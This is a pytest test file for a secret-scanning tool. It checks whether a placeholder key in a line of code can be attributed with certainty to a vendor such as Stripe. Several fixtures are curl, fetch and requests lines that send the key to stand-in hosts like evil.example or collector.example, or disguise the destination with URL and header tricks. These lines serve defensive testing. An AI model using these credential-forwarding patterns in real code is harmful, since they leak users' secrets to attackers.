"""What is certain of a key in a line or a few, and what only seems to be: what is certain may be sent to a vendor."""

from __future__ import annotations

import pytest

from keyguard.model.finding import Certainty
from tests.attribution.test_attributor import Case, attribution_of

#: kind -> lines in which ``<1>`` is a key, and ``\\n`` the end of a line
DOUBTFUL = {
    "another case of a condition": r"""
const k = p === 'stripe' ? process.env.STRIPE_KEY : '<1>';
const k = isStripe ? stripeKey : '<1>'
$key = $isStripe ? $stripeKey : '<1>';
$key = ($provider == 'stripe') ? STRIPE_SECRET_KEY : '<1>';
key = use_stripe ? ENV['STRIPE_KEY'] : '<1>'
key = ENV["P"] == "stripe" ? stripe_key : "<1>"
key = stripe_key if provider == 'stripe' else '<1>'
key = os.environ['STRIPE_KEY'] if provider == "stripe" else "<1>"
const k = a ? stripeKey : b ? clerkKey : '<1>'
const k = !isStripe ? '<1>' : stripeKey
const k = provider !== 'stripe' ? '<1>' : other
const k = provider === 'stripe'\n  ? process.env.STRIPE_KEY\n  : '<1>';
const k = provider === 'stripe' ?\n  stripeKey :\n  '<1>';
const client = create(isStripe ? stripeKey : '<1>')
f({ key: p == 'stripe' ? stripe.key : '<1>' })
return stripe ? stripe.secretKey : "<1>";
x = stripe?a:'<1>'
IF(p='stripe', a, '<1>')
SELECT IF(p = 'stripe', stripe_key, '<1>')
np.where(p == 'stripe', a, '<1>')
SELECT CASE WHEN p = 'stripe' THEN stripe_key ELSE '<1>' END
if provider != 'stripe': token = '<1>'
if (provider !== 'stripe') token = '<1>'
if (!stripe) { token = '<1>' }
unless stripe then token = '<1>' end
if not stripe: token = '<1>'
if provider == "stripe" { k = stripe } else { k = "<1>" }
key = stripe ? stripe : '<1>'
[ "$P" = stripe ] && K=a || K=<1>
k = stripe_key if (m := mode) == 'stripe' else '<1>'
assert stripe_key != '<1>'
expect(stripeKey).not.toBe('<1>')
stripe_key != "<1>"
""",
    "a command to another host": r"""
curl "https://collector.example/?ref=api.stripe.com" -H "Authorization: Bearer <1>"
curl https://gw.corp.example/proxy/api.stripe.com/v1 -u <1>:
curl -e https://api.stripe.com https://corp.example/x -u <1>:
curl --referer https://api.stripe.com https://corp.example/x -u <1>:
curl --connect-to api.stripe.com:443:evil.example:443 https://api.stripe.com/v1 -u <1>:
curl --resolve api.stripe.com:443:10.0.0.1 https://api.stripe.com/v1 -u <1>:
curl -x http://proxy.example:3128 https://api.stripe.com/v1 -u <1>:
curl -H "Host: api.stripe.com" https://10.0.0.5/v1 -H "Authorization: Bearer <1>"
curl -H "Host: evil.example" https://api.stripe.com/v1 -H "Authorization: Bearer <1>"
curl -H "Origin: https://api.clerk.com" https://corp.example/ -H "Authorization: Bearer <1>"
curl https://corp.example/hook -d callback=https://api.stripe.com/v1 -H "Authorization: Bearer <1>"
curl https://api.stripe.com/v1/x -d note=<1>
curl https://api.stripe.com.evil.example/ -u <1>:
curl https://api.stripe.com@evil.example/ -u <1>:
curl https://evil.example#@api.stripe.com/ -u <1>:
curl https://evil.example\@api.stripe.com/ -u <1>:
curl https://evil.example/https://api.stripe.com/v1 -u <1>:
curl $GW/https://api.stripe.com/v1 -u <1>:
curl "${PROXY}?url=https://api.stripe.com/v1" -u <1>:
curl https://corp.example -o https://api.stripe.com -u <1>:
curl https://corp.example -u <1>: # like https://api.stripe.com
curl https://corp.example -u <1>: -A "api.stripe.com"
curl --proxy-header "X: api.stripe.com" https://corp.example -u <1>:
wget --header="Authorization: Bearer <1>" --referer=https://api.stripe.com https://corp.example/
http GET https://corp.example/api.stripe.com "Authorization:Bearer <1>"
""",
    "a call to another host": r"""
{"callback":"https://api.clerk.com/x","token":"<1>"}
{"webhook_url":"https://api.clerk.com/x","secret":"<1>"}
fetch("https://corp.example/x", {headers: {Authorization: "Bearer <1>"}, body: "https://api.clerk.com"})
fetch("https://corp.example/x", {\n  headers: {\n    Authorization: "Bearer <1>",\n  },\n  body: JSON.stringify({ url: "https://api.clerk.com/v1" }),\n})
fetch(PROXY, {url: "https://api.stripe.com/v1", headers: {Authorization: "Bearer <1>"}})
fetch("https://corp.example/?to=https://api.stripe.com", {headers: {Authorization: "Bearer <1>"}})
fetch(`https://corp.example/api.stripe.com`, {headers: {Authorization: "Bearer <1>"}})
fetch(`${gw}/https://api.stripe.com/v1`, {headers: {Authorization: "Bearer <1>"}})
fetch(gw + "https://api.stripe.com/v1", {headers: {Authorization: "Bearer <1>"}})
fetch(url, {headers: {Authorization: "<1>", Referer: "https://api.stripe.com/"}})
fetch(url, {headers: {Authorization: "<1>"}}), fetch("https://api.stripe.com/v1")
fetch("https://api.stripe.com/v1"), fetch(url, {headers: {Authorization: "<1>"}})
fetch("https://api.stripe.com/v1", {method: "POST", body: JSON.stringify({token: "<1>"})})
requests.post("https://corp.example", headers={"Authorization": "Bearer <1>"}, json={"callback": "https://api.stripe.com"})
requests.post("https://corp.example", auth=("<1>", ""), params={"next": "https://api.stripe.com"})
requests.post("https://api.stripe.com", json={"k": "<1>"})
requests.get("https://api.stripe.com", proxies={"https": "http://corp:1"}, auth=("<1>", ""))
axios.get(url, { headers: { Authorization: 'Bearer <1>', Origin: 'https://api.stripe.com' } })
axios.post('https://corp.example', { target: 'https://api.stripe.com' }, { headers: { Authorization: 'Bearer <1>' } })
nock('https://api.stripe.com').matchHeader('authorization', 'Bearer <1>')
stub_request(:get, "https://api.stripe.com").with(headers: {'Authorization' => 'Bearer <1>'})
requests_mock.get("https://api.stripe.com/v1", request_headers={"Authorization": "Bearer <1>"})
const res = await fetch(url, {\n  method: "POST",\n  headers: {\n    Authorization: "Bearer <1>",\n  },\n})\nconst b = axios.get("https://api.stripe.com/v1")
GET https://corp.example/ HTTP/1.1\nReferer: https://api.stripe.com/\nAuthorization: Bearer <1>
GET / HTTP/1.1\nHost: corp.example\nReferer: https://api.stripe.com/\nAuthorization: Bearer <1>
url: https://<1>@corp.example/?x=api.stripe.com
https://corp.example/api.stripe.com?key=<1>
""",  # noqa: E501
    "a name of two vendors": r"""
stripe_to_paystack_key = '<1>'
SENDMAILOS_OR_STRIPE_KEY=<1>
CLERK_KEY_MOVED_TO_WORKOS=<1>
polarStripeKey = '<1>'
polar_stripe_key = '<1>'
POLAR_STRIPE_KEY=<1>
PADDLE_STRIPE_KEY=<1>
STRIPE_PADDLE_KEY=<1>
usePaystackInsteadOfStripe('<1>')
""",
    "a name that denies it": r"""
NOT_STRIPE_KEY=<1>
non_stripe_key: <1>
notStripeKey = '<1>'
noStripe = '<1>'
""",
    "a name of what stands in": r"""
STRIPE_REPLACEMENT_KEY=<1>
stripe_emulator_key = '<1>'
new StripeMock('<1>')
mockStripe('<1>')
new FakeStripe("<1>")
LocalStripe("<1>")
stripeSimulatorSecret = '<1>'
STRIPE_STUB_KEY=<1>
STRIPE_PROXY_KEY=<1>
STRIPE_COMPATIBLE_API_KEY=<1>
stripe_like_key = '<1>'
ex_stripe_key = '<1>'
FORMER_STRIPE_KEY=<1>
INSTEAD_OF_STRIPE_KEY=<1>
WITHOUT_STRIPE_KEY=<1>
""",
    "a word of everyday language": r"""
clerk_office_token = '<1>'
county_clerk_token = '<1>'
COUNTY_CLERK_TOKEN=<1>
clerk_of_court_key: <1>
law_clerk_secret = "<1>"
clerk_desk_key = '<1>'
clerkship_key = '<1>'
onTapKey = '<1>'
on_tap_key: '<1>'
doubleTapKey = '<1>'
handleTapKey('<1>')
mag_stripe_key = '<1>'
MAG_STRIPE_KEY=<1>
""",
    "a field about another": r"""
moved_to: stripe, key: <1>
{"moved_to": "stripe", "key": "<1>"}
{"instead_of": "stripe", "key": "<1>"}
config(instead_of="stripe", key="<1>")
migrate(to='workos', key='<1>')
{ except: 'stripe', token: '<1>' }
""",
    "text about another": r"""
# not Stripe: <1>
# no longer Stripe key <1>
# instead of Stripe: <1>
// formerly stripe: <1>
// this replaced the Stripe key: <1>
# unlike stripe: <1>
# anything but stripe: <1>
""",
    "a client of another host": r"""
new Stripe('<1>', { host: 'localhost', port: 12111, protocol: 'http' })
new SendMailOS('<1>', { baseUrl: 'https://mail.corp.example' })
log.info("stripe", "<1>")
assertNotEquals("STRIPE_KEY", "<1>")
""",
    "a variable": r"""
const mine = '<1>';\nnew StripeMock(mine);
const mine = '<1>';\nconst c = p === 'stripe' ? stripeKey : mine;
MINE=<1>\ncurl "https://collector.example/?ref=api.stripe.com" -H "Authorization: Bearer $MINE"
mine = '<1>'\nrequests.get("https://gw.corp.example/api.stripe.com/v1", headers={"Authorization": "Bearer " + mine})
mine = '<1>'\nfetch("https://corp.example", {body: "https://api.stripe.com", headers: {authorization: mine}})
""",
    "more": r"""
STRIPE_KEY: ${{ env.X == 'stripe' && secrets.K || '<1>' }}
emulator:\n  stripe_key: <1>
stripe_key = fake('<1>')
STRIPE_KEY=<1>  # fake, for the emulator
# mock: STRIPE_KEY=<1>
function f(stripe, key = '<1>') {
const { stripe, key = '<1>' } = x
{ unless: 'stripe', token: '<1>' }
{ not: 'stripe', token: '<1>' }
{ stripe, key: '<1>' }
const key = flag\n  ? { stripe: a }\n  : '<1>'
let key = if provider == "stripe" { stripe_key } else { "<1>" };
val key = if (p == "stripe") stripeKey else "<1>"
key := map[string]string{"stripe": a, "other": "<1>"}["x"]
switch (p) { case 'stripe': key = stripeKey; break; default: key = '<1>' }
def key(stripe=None, token='<1>')
provider: stripe ? stripe : <1>
curl "https://evil.example\@api.stripe.com/" -u <1>:
curl https://api.stripe.com.:443@evil.example/ -u <1>:
curl https://corp.example/?u=https%3A%2F%2Fapi.stripe.com -u <1>:
curl --url https://corp.example --url-query x=api.stripe.com -u <1>:
curl https://corp.example --data-urlencode url=https://api.stripe.com -u <1>:
curl -H "X-Forwarded-Host: api.stripe.com" https://corp.example -H "Authorization: Bearer <1>"
curl -H "Referer: https://api.stripe.com" -H "Authorization: Bearer <1>" https://corp.example
STRIPE_VS_PAYSTACK=<1>
STRIPE_OR_OTHER_KEY=<1>
stripe_migration_key = '<1>'
migrateFromStripe('<1>')
replaceStripe('<1>')
withoutStripe('<1>')
disableStripe('<1>')
isStripeKey('<1>')
stripesKey = '<1>'
stripedKey = '<1>'
clerical_key = '<1>'
clerkOfficeToken = '<1>'
fileClerkToken = '<1>'
CLERK_OF_WORKS_KEY=<1>
knock_knock_key = '<1>'
SHARED_STRIPE_AND_CLERK_KEY=<1>
stripeOrClerk = '<1>'
stripe2clerk_key = '<1>'
no_more_stripe = '<1>'
any_but_stripe_key = '<1>'
stripe_free_key = '<1>'
stripeless_key = '<1>'
stripe_rival_key='<1>'
post_stripe_key = '<1>'
after_stripe_key = '<1>'
prestripe_key = '<1>'
nonStripeToken: '<1>'
"not-stripe-key": "<1>"
not_stripe: '<1>'
unstripe('<1>')
stripe.mock.key = '<1>'
mocks.stripe.key = '<1>'
fake.stripe.api_key = '<1>'
stripe_test_double = '<1>'
stripe_sandbox_emulator = '<1>'
class MockStripe: key = '<1>'
stripeServerStub = '<1>'
""",
    "another case in a template": r"""
key: {{ if .Values.stripe }}{{ .Values.stripeKey }}{{ else }}<1>{{ end }}
key: {{- if eq .p "stripe" }}{{ .Values.stripeKey }}{{- else }}<1>{{ end }}
{% if stripe %}{{ stripe_key }}{% else %}<1>{% endif %}
{{#if stripe}}{{stripeKey}}{{else}}<1>{{/if}}
key: <% if s %><%= stripe_key %><% else %><1><% end %>
""",
    "below the name of another": r"""
stripe/clerk/key: <1>
secret/mock/stripe/key: <1>
FAUX_STRIPE_KEY=<1>
DECOY_STRIPE_KEY=<1>
POST_STRIPE_KEY=<1>
""",
    "what leads a request astray": r"""
fetch('https://api.stripe.com/v1/customers', {method: 'POST', body: 'metadata[k]=<1>'})
fetch('/api/proxy?target=https://api.stripe.com', {headers: {Authorization: 'Bearer <1>'}})
fetch('/proxy?url=https://api.stripe.com/v1', {headers: {Authorization: 'Bearer <1>'}})
axios.post('/proxy', { url: 'https://api.stripe.com/v1', headers: { Authorization: 'Bearer <1>' } })
fetch("https://api.stripe.com/v1".replace("api.stripe.com", host), {headers: {Authorization: "Bearer <1>"}})
fetch(live ? "https://api.stripe.com" : "https://corp.example", {headers: {Authorization: "Bearer <1>"}})
fetch(`https://api.stripe.com${suffix}`, {headers: {Authorization: "Bearer <1>"}})
fetch(`https://${host}/api.stripe.com`, {headers: {Authorization: "Bearer <1>"}})
requests.get("http://localhost:12111/v1?host=api.stripe.com", auth=("<1>", ""))
https.request({ hostname: 'corp.example', headers: { Host: 'api.stripe.com', Authorization: 'Bearer <1>' } })
https.request({ hostname: 'corp.example', path: '/api.stripe.com', headers: { Authorization: 'Bearer <1>' } })
{ allowedHosts: ['api.stripe.com'], token: '<1>' }
cors({ origin: 'https://api.stripe.com', secret: '<1>' })
window.open("https://corp.example/?api.stripe.com", "<1>")
console.log("https://api.stripe.com", "<1>")
redirect("https://api.stripe.com", token="<1>")
addRoute("https://api.stripe.com", "<1>")
webhooks.create({ url: 'https://api.clerk.com/hook', secret: '<1>' }, 'https://corp.example')
""",
    "what is held or said by another": r"""
stripe_key = Clerk('<1>')
polar = new Stripe('<1>')
paystack = Stripe("<1>")
notStripe = new Stripe('<1>')
recharge('<1>')
wallet.recharge('<1>')
resend('<1>')
instead_of:\n  stripe: <1>
moved_to:\n  workos_key: <1>
replaces:\n  stripe_key: <1>
paddle:\n  stripe_key: <1>
[not.stripe]\nstripe_key = <1>
not:\n  - stripe_key: <1>
SHAM_STRIPE_KEY=<1>
BOGUS_STRIPE_KEY=<1>
FAKE_STRIPE_KEY=<1>
MOCK_STRIPE_KEY=<1>
EX_STRIPE_KEY=<1>
ANTI_STRIPE_KEY=<1>
UNLIKE_STRIPE_KEY=<1>
ZERO_STRIPE_KEY=<1>
STRIPE_TUNNEL_KEY=<1>
stripe_gateway_mock_key = '<1>'
""",
    "a variable that it is no fallback of": r"""
const k = process.env.STRIPE_KEY || process.env.CLERK_KEY || '<1>'
const k = process.env.CLERK_KEY ?? process.env.STRIPE_KEY ?? '<1>'
const clerkKey = process.env.STRIPE_KEY || '<1>'
clerk_key = os.environ.get('STRIPE_KEY', '<1>')
clerk_key = os.getenv('STRIPE_KEY') or '<1>'
key = ENV.fetch('CLERK_KEY', ENV.fetch('STRIPE_KEY', '<1>'))
key = os.getenv('CLERK_KEY', os.getenv('STRIPE_KEY', '<1>'))
const k = process.env.NOT_STRIPE_KEY || '<1>'
const k = process.env.STRIPE_MOCK_KEY || '<1>'
const k = !process.env.STRIPE_KEY || '<1>'
const k = process.env.STRIPE_KEY && '<1>'
if (process.env.STRIPE_KEY || k === '<1>') {}
const k = process.env.STRIPE_KEY ? x : '<1>'
const k = (process.env.STRIPE_KEY || x) + '<1>'
send(process.env.STRIPE_KEY || other, '<1>')
check(os.environ.get('STRIPE_KEY'), '<1>')
pick(os.Getenv("STRIPE_KEY"), "<1>")
assertEquals(System.getenv("STRIPE_KEY"), "<1>")
str_replace(getenv('STRIPE_KEY'), '<1>')
ifElse("STRIPE_KEY", "<1>")
val k = if (x) System.getenv("STRIPE_KEY") else "<1>"
k = os.getenv('STRIPE_KEY') if x else '<1>'
if x then k = ENV["STRIPE_KEY"] else k = "<1>" end
[ -n "$STRIPE_KEY" ] || export K=<1>
test -n "$STRIPE_KEY" || curl https://corp.example -u <1>:
""",
}

CERTAIN = r"""
const k = process.env.STRIPE_KEY || '<1>'
const k = process.env['STRIPE_KEY'] || "<1>"
const k = import.meta.env.VITE_STRIPE_KEY || `<1>`
new Client({ apiKey: process.env.STRIPE_KEY || '<1>' })
const k = process.env.STRIPE_KEY ||\n  '<1>'
const k = process.env.STRIPE_KEY || process.env.STRIPE_SECRET_KEY || '<1>'
const k = Deno.env.get("STRIPE_KEY") || "<1>"
key = ENV['STRIPE_KEY'] || '<1>'
key = ENV.fetch('STRIPE_KEY', '<1>')
key = ENV.fetch('STRIPE_KEY') { '<1>' }
key = os.environ.get("STRIPE_KEY", "<1>")
key = os.getenv('STRIPE_KEY', '<1>')
key = env.str('STRIPE_KEY', default='<1>')
$k = getenv('STRIPE_KEY') ?: '<1>';
$k = $_ENV['STRIPE_KEY'] ?? '<1>';
k := cmp.Or(os.Getenv("STRIPE_KEY"), "<1>")
k := getEnv("STRIPE_KEY", "<1>")
String k = System.getenv().getOrDefault("STRIPE_KEY", "<1>");
String k = Optional.ofNullable(System.getenv("STRIPE_KEY")).orElse("<1>");
var k = Environment.GetEnvironmentVariable("STRIPE_KEY") ?? "<1>";
let k = env::var("STRIPE_KEY").unwrap_or("<1>".to_string());
let k = env::var("STRIPE_KEY").unwrap_or_else(|_| "<1>".into());
val k = System.getenv("STRIPE_KEY") ?: "<1>"
k = System.get_env("STRIPE_KEY") || "<1>"
val k = sys.env.getOrElse("STRIPE_KEY", "<1>")
const k = String.fromEnvironment("STRIPE_KEY", defaultValue: "<1>");
key: {{ if .Values.x }}{{ .Values.y }}{{ else }}{{ end }}\nSTRIPE_KEY: {{ if .Values.x }}{{ .Values.y }}{{ else }}<1>{{ end }}
secret/payments/stripe/key: <1>
fetch('https://api.stripe.com/v1/customers', {method: 'POST', body: 'a=b', headers: {Authorization: 'Bearer <1>'}})
https.request({ hostname: 'api.stripe.com', path: '/v1', headers: { Authorization: 'Bearer <1>' } })
http.client.HTTPSConnection("api.stripe.com").request("GET", "/v1", headers={"Authorization": "Bearer <1>"})
production:\n  stripe_key: <1>
local:\n  stripe_key: <1>
payments:\n  stripe:\n    key: x\n    stripe_secret: <1>
payments = Stripe('<1>')
const client = new Stripe("<1>")
this.stripe = new Stripe('<1>');
STRIPE_SECRET_KEY=<1>
ACME_STRIPE_SECRET_KEY=<1>
REACT_APP_STRIPE_KEY=<1>
NEXT_PUBLIC_STRIPE_KEY=<1>
STRIPE_API_KEY_LIVE=<1>
STRIPE_KEY_V2=<1>
stripe_webhook_key = '<1>'
config.stripe.secretKey = '<1>'
acme.stripe.secret-key=<1>
app.payment.stripe.api-key=<1>
const stripeKey = live ? process.env.STRIPE_KEY : '<1>'
const stripeKey = live ? '<1>' : process.env.X
stripe_key = os.getenv("STRIPE_KEY") or "<1>"
const key = process.env.STRIPE_KEY ?? '<1>'
os.environ.setdefault("STRIPE_KEY", "<1>")
${STRIPE_KEY:-<1>}
if (x) stripe.api_key = '<1>'
if x: stripe.api_key = "<1>"
val stripeKey: String? = "<1>"
stripeKey?: string = '<1>'
<stripeKey><1></stripeKey>
<string name="stripe_secret_key"><1></string>
docker run -e STRIPE_KEY=<1> img
heroku config:set STRIPE_KEY=<1>
kubectl create secret generic x --from-literal=stripe-key=<1>
'stripe' => env('STRIPE_SECRET', '<1>'),
Stripe.setPublishableKey("<1>")
initStripe('<1>')
createStripeClient({ apiKey: '<1>' })
stripe = stripe_sdk.StripeClient("<1>")
INSERT INTO s VALUES ('stripe_secret_key', '<1>');
curl https://api.stripe.com/v1/charges -u <1>: -d success_url=https://example.com/ok
curl -sSL -X POST -H "Content-Type: application/json" -H "Authorization: Bearer <1>" https://api.stripe.com/v1/x
curl -s https://api.stripe.com/v1/x -H 'Authorization: Bearer <1>' | jq .
X=$(curl -s -u <1>: https://api.stripe.com/v1/balance)
curl api.stripe.com/v1/charges -u <1>:
os.system("curl https://api.stripe.com/v1 -u <1>:")
subprocess.run(["curl", "-u", "<1>:", "https://api.stripe.com/v1"])
run: curl -H "Authorization: Bearer <1>" https://api.stripe.com/v1
http GET https://api.stripe.com/v1/x "Authorization:Bearer <1>"
wget --header="Authorization: Bearer <1>" https://api.stripe.com/v1
requests.get("https://api.stripe.com/v1", auth=("<1>", ""))
requests.request("GET", "https://api.stripe.com/v1", auth=("<1>", ""))
requests.get(url="https://api.stripe.com/v1", headers={"Authorization": "Bearer <1>"})
fetch("https://api.stripe.com/v1/x", {method: "POST", headers: {Authorization: "Bearer <1>"}, body: JSON.stringify({success_url: "https://example.com"})})
axios.get('https://api.stripe.com/v1', { headers: { Authorization: `Bearer <1>` } })
$http.get('https://api.stripe.com/v1', { headers: { Authorization: 'Bearer <1>' } })
Net::HTTP.get(URI('https://api.stripe.com/v1'), { 'Authorization' => 'Bearer <1>' })
RestClient.get('https://api.stripe.com/v1', { Authorization: 'Bearer <1>' })
req = urllib.request.Request("https://api.stripe.com/v1", headers={"Authorization": "Bearer <1>"})
http.NewRequest("GET", "https://<1>:@api.stripe.com/v1", nil)
KEY=<1>\ncurl -u "$KEY:" https://api.stripe.com/v1/charges
KEY=<1>; curl -u "$KEY:" https://api.stripe.com/v1/charges
KEY=<1>\ncurl https://api.stripe.com/v1 -H "Authorization: Bearer ${KEY}"
mine = '<1>'\nrequests.get("https://api.stripe.com/v1", headers={"Authorization": f"Bearer {mine}"})
const mine = '<1>';\nconst s = new Stripe(mine);
"""  # noqa: E501


def lines(text: str) -> list[str]:
    return [line.replace("\\n", "\n") for line in text.strip("\n").splitlines()]


@pytest.mark.parametrize("kind", DOUBTFUL)
def test_what_only_seems_to_name_a_vendor_is_not_certain(kind: str) -> None:
    wrong = [line for line in lines(DOUBTFUL[kind]) if attribution_of(Case(line, "")).certainty is Certainty.CERTAIN]
    assert wrong == []


def test_a_name_or_a_request_that_can_mean_only_one_vendor_is_certain() -> None:
    found = {line: attribution_of(Case(line, "stripe")) for line in lines(CERTAIN)}
    lost = [line for line, one in found.items() if (one.vendor, one.certainty) != ("stripe", Certainty.CERTAIN)]
    assert lost == []
